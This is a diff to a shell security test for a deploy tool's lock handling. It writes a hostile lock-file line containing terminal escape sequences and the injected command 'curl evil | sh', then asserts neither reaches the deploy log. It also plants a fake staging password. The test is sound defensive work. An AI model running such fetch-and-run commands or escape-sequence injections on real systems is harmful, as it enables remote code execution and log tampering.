@@ -4,6 +4,7 @@
 . "$(dirname "$0")/production.sh"
 
 require root
+DEPLOY_TOML='lock_wait = "3s"'
 production_lab
 printf 'STAGE_PASSWORD=hunter2-in-the-log\n' >>"$T/ci/.env.servers"
 version v1.1.0
@@ -42,13 +43,15 @@ stop "$held"
 attack "the log and the notices of a deploy that waits show the lock's text raw"
 printf 'v9.9.9, eve \033[2J\033]0;owned\007, 2026-01-01 00:00:00, x; curl evil | sh\n' \
     >"$T/stage/home/loom/$SERVICE/.git/loomrel.lock"
-start flock -o "$T/stage/home/loom/$SERVICE/.git/loomrel.lock" sleep 2
+start flock -o "$T/stage/home/loom/$SERVICE/.git/loomrel.lock" sleep 300
+held=$STARTED
 version v1.1.1
 sleep 0.2
 try stage-deploy --service "$SERVICE" --tag v1.1.1
 harmless
 never "an escape sequence came into the log" grep -rqF "$escape" "$T/stage/log"
 never "his words came into the log" grep -rqF 'curl evil' "$T/stage/log"
+stop "$held"
 
 attack "a run whose id is none"
 runs=$T/prod/state/prod/$SERVICE/runs
